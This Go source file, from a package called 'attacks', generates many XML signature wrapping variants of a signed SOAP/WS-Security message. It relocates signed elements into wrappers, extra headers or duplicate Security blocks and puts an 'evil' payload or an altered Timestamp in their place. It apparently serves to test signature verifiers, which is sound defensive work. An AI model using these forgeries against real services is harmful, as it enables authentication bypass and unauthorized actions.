package attacks

import (
	"fmt"
	"regexp"
	"strings"
)

// evil is what an attacker wants to be done in place of the signed content.
const evil = `<e:Evil xmlns:e="urn:evil">give all</e:Evil>`

var idAttribute = regexp.MustCompile(`\s([\w.-]+:)?Id="[^"]*"`)

// wrap moves what is signed elsewhere, and puts something else in its place.
func (f *forge) wrap() {
	for _, target := range f.signed {
		if target == f.security || target.isEmptyTag() {
			continue
		}
		original := f.source(target)
		for kind, replacement := range f.replacements(target) {
			for place, move := range f.places(target) {
				for shape, wrapped := range wrappers(f.root, original) {
					name := fmt.Sprintf("%s, %s; original %s, %s", target.local, kinds[kind], f.placeNames()[place],
						shapes[shape])
					f.add(name, f.moved(target, replacement, move(wrapped)))
				}
			}
		}
	}
	f.wrapByPosition()
}

// moved returns the message with the replacement in the place of target. A
// move into target itself is one into the replacement.
func (f *forge) moved(target *element, replacement string, move edit) string {
	if move.from > target.start && move.from < target.end {
		at := max(0, strings.LastIndex(replacement, "</"))
		replacement = replacement[:at] + move.text + replacement[at:]
		return f.edited(replace(target, replacement))
	}
	return f.edited(replace(target, replacement), move)
}

var kinds = []string{"forged with its Id", "forged without Id", "forged with another Id", "forged with both contents",
	"removed", "unchanged"}

// replacements are what stands in the place of a signed element.
func (f *forge) replacements(target *element) []string {
	tag, end := f.src[target.start:target.open], f.src[target.close:target.end]
	content := evil
	if target.local == "Timestamp" {
		content = strings.NewReplacer("20", "21").Replace(target.inner(f.Octets))
	}
	other := strings.ReplaceAll(tag, target.id(), "other-"+target.id())
	return []string{
		tag + content + end,
		idAttribute.ReplaceAllString(tag, "") + content + end,
		other + content + end,
		idAttribute.ReplaceAllString(tag, "") + content + target.inner(f.Octets) + end,
		"",
		f.source(target),
	}
}

// places are where the original can go, as edits of a text.
func (f *forge) places(target *element) []func(string) edit {
	at := func(offset int) func(string) edit { return func(text string) edit { return insert(offset, text) } }
	list := []func(string) edit{
		at(f.header.open), at(f.header.close), at(f.security.open), at(f.security.close), at(f.header.start),
		at(f.body.start), at(f.body.end), at(f.body.open), at(f.body.close), at(target.start), at(target.end),
	}
	if f.signature != nil {
		list = append(list, at(f.signature.open), at(f.signature.close))
		for _, e := range f.signature.children {
			list = append(list, at(e.close))
		}
	}
	return list
}

func (f *forge) placeNames() []string {
	names := []string{"first in Header", "last in Header", "first in Security", "last in Security", "before Header",
		"before Body", "after Body", "first in Body", "last in Body", "before its place", "after its place"}
	if f.signature != nil {
		names = append(names, "first in Signature", "last in Signature")
		for _, e := range f.signature.children {
			names = append(names, "in "+e.local)
		}
	}
	return names
}

var shapes = []string{"bare", "in a wrapper", "in two wrappers", "in a block for others", "in ds:Object",
	"in an Envelope", "in a Header"}

// wrappers are the forms in which an original can stand elsewhere.
func wrappers(root *element, original string) []string {
	soap, actor := `xmlns:env="`+root.space+`"`, "env:actor"
	if root.space == nsSOAP12 {
		actor = "env:role"
	}
	return []string{
		original,
		`<w:Wrapper xmlns:w="urn:w">` + original + `</w:Wrapper>`,
		`<w:Outer xmlns:w="urn:w"><w:Inner>` + original + `</w:Inner></w:Outer>`,
		`<w:Wrapper xmlns:w="urn:w" ` + soap + ` ` + actor + `="urn:nobody" env:mustUnderstand="0">` + original +
			`</w:Wrapper>`,
		`<ds:Object xmlns:ds="` + nsDS + `">` + original + `</ds:Object>`,
		`<env:Envelope ` + soap + `><env:Body/>` + original + `</env:Envelope>`,
		`<env:Header ` + soap + `>` + original + `</env:Header>`,
	}
}

// wrapByPosition forges around the whole message, and with two of each part.
func (f *forge) wrapByPosition() {
	open, end := f.src[f.root.start:f.root.open], f.src[f.root.close:f.root.end]
	forged := idAttribute.ReplaceAllString(f.src[f.body.start:f.body.open], "") + evil + `</` + f.tagName(f.body) + `>`
	whole, header := f.source(f.root), f.source(f.header)
	headerTag, headerEnd := f.src[f.header.start:f.header.open], f.src[f.header.close:f.header.end]
	security := f.source(f.security)
	f.add("the Envelope in the Header of another", open+headerTag+security+whole+headerEnd+forged+end)
	f.add("the Envelope in the Body of another", open+header+strings.Replace(forged, evil, evil+whole, 1)+end)
	f.add("the Envelope in a bare one", open+whole+end)
	f.add("the Envelope in a bare one, with a forged Body", open+whole+forged+end)
	f.add("Security copied beside the Envelope", open+headerTag+security+headerEnd+forged+whole+end)
	f.add("forged Body first", f.edited(insert(f.body.start, forged)))
	f.add("forged Body last", f.edited(insert(f.body.end, forged)))
	f.add("forged Header first", f.edited(insert(f.header.start, headerTag+headerEnd)))
	f.add("two Headers", f.edited(insert(f.header.end, header)))
	f.add("Header after Body", f.edited(replace(f.header, ""), insert(f.body.end, header)))
	f.add("Body in Header", f.edited(replace(f.body, forged), beforeEnd(f.header, f.source(f.body))))
	f.add("two Security headers", f.edited(insert(f.security.end, security)))
	f.add("an empty Security header first", f.edited(insert(f.security.start, `<o:Security xmlns:o="`+nsWSSE+`"/>`)))
	f.add("the Security header in another", f.edited(replace(f.security, `<o:Security xmlns:o="`+nsWSSE+`">`+security+
		`</o:Security>`)))
	f.add("a second root", f.src+whole)
	f.add("forged content first in Body", f.edited(afterStart(f.body, evil)))
	f.add("forged content last in Body", f.edited(beforeEnd(f.body, evil)))
	f.add("text in Body", f.edited(beforeEnd(f.body, "give all")))
	f.add("an attribute of Body", f.edited(insert(f.body.open-1, ` evil="all"`)))
	for _, b := range f.header.children {
		if b == f.security {
			continue
		}
		copied := f.src[b.start:b.open] + "urn:evil" + f.src[b.close:b.end]
		f.add("second "+b.local+" first", f.edited(insert(b.start, copied)))
		f.add("second "+b.local+" last", f.edited(insert(b.end, copied)))
		f.add("second "+b.local+" without Id", f.edited(insert(b.end, idAttribute.ReplaceAllString(copied, ""))))
		f.add("without "+b.local, f.edited(replace(b, "")))
	}
}

// tagName returns the name of an element as its start tag has it.
func (f *forge) tagName(e *element) string {
	name := strings.TrimPrefix(f.src[e.start:e.open], "<")
	return name[:strings.IndexAny(name, " \t\r\n/>")]
}
